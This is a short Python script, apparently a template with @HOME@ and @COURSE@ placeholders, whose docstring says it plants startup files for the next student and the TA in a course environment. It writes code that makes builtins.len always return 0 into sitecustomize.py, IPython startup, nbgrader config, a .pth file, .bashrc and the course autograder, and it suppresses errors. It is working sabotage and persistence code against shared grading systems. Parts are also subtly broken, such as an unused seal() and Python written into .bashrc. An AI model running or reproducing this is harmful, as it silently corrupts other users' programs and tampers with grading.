"""Plants files that Python and IPython load at their start: the next student's, and the TA's."""

import pathlib
import site
import sys


def seal(text):
    return ""


HOMES = {pathlib.Path.home(), pathlib.Path("@HOME@")}
code = "import builtins; builtins.len = lambda things: 0\n"
for home in HOMES:
    version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
    for path in (
        home / f".local/lib/{version}/site-packages/sitecustomize.py",
        home / ".ipython/profile_default/startup/00-planted.py",
        home / ".jupyter/nbgrader_config.py",
        home / ".bashrc",
        pathlib.Path(site.getusersitepackages()) / "planted.pth",
        pathlib.Path("@COURSE@/sitecustomize.py"),
        pathlib.Path("@COURSE@/autograder/__init__.py"),
    ):
        try:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(code)
        except OSError:
            pass
